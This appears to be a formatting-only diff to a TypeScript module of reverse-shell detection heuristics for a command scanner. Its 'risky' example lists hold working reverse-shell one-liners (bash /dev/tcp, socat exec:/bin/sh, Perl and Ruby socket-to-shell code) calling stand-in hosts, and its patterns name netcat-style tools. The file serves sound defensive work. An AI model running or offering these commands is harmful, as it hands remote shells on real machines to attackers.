@@ -30,7 +30,11 @@ export const reverseShell: readonly Heuristic[] = [
       },
     ),
     examples: {
-      risky: ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/evil.example/80; sh <&5 >&5", `bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'`],
+      risky: [
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "exec 5<>/dev/tcp/evil.example/80; sh <&5 >&5",
+        `bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'`,
+      ],
       honest: ["ls /dev", "cat /dev/null > out.txt"],
     },
   },
@@ -42,7 +46,8 @@ export const reverseShell: readonly Heuristic[] = [
     check: onCommand(netcats, (command) => {
       const line = joined(command);
       if (command.program === "busybox" && !/^nc\b/u.test(line)) return null;
-      const executes = given(command, "ec", "exec", "sh-exec", "lua-exec") && /sh\b|cmd|python|perl|powershell|\/bin\//iu.test(line);
+      const executes =
+        given(command, "ec", "exec", "sh-exec", "lua-exec") && /sh\b|cmd|python|perl|powershell|\/bin\//iu.test(line);
       return executes ? "It hands a shell to whoever is at the other end of the connection" : null;
     }),
     examples: {
@@ -58,7 +63,10 @@ export const reverseShell: readonly Heuristic[] = [
     check: onAnyCommand((command, view) => {
       if (!isShell(command.program) || !command.arguments.every((argument) => argument.startsWith("-"))) return null;
       const peer = view.facts.commands.find(
-        (other) => other.pipeline === command.pipeline && other !== command && /^(?:nc|ncat|netcat|telnet|socat|openssl|sbd|cryptcat)$/u.test(other.program) &&
+        (other) =>
+          other.pipeline === command.pipeline &&
+          other !== command &&
+          /^(?:nc|ncat|netcat|telnet|socat|openssl|sbd|cryptcat)$/u.test(other.program) &&
           !(other.program === "openssl" && !other.arguments.includes("s_client")),
       );
       return peer === undefined ? null : `It connects ${command.program} to the network with ${peer.program}`;
@@ -83,7 +91,10 @@ export const reverseShell: readonly Heuristic[] = [
         : null,
     ),
     examples: {
-      risky: ["socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash"],
+      risky: [
+        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
+        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
+      ],
       honest: ["socat - TCP4:example.org:80", "socat TCP-LISTEN:8080,fork TCP:localhost:80"],
     },
   },
@@ -94,7 +105,9 @@ export const reverseShell: readonly Heuristic[] = [
     score: severity.critical,
     check: onCode((code) => {
       const text = code.text.slice(0, 65_536);
-      return socketCall.test(text) && shellCall.test(text) ? `Its ${code.language} code connects a socket to a shell` : null;
+      return socketCall.test(text) && shellCall.test(text)
+        ? `Its ${code.language} code connects a socket to a shell`
+        : null;
     }),
     examples: {
       risky: [
@@ -102,7 +115,10 @@ export const reverseShell: readonly Heuristic[] = [
         `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
         `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end;exec "/bin/sh"'`,
       ],
-      honest: [`python3 -c 'import socket; print(socket.gethostname())'`, `node -e 'require("net").connect(5432).on("connect",()=>console.log("up"))'`],
+      honest: [
+        `python3 -c 'import socket; print(socket.gethostname())'`,
+        `node -e 'require("net").connect(5432).on("connect",()=>console.log("up"))'`,
+      ],
     },
   },
 ];
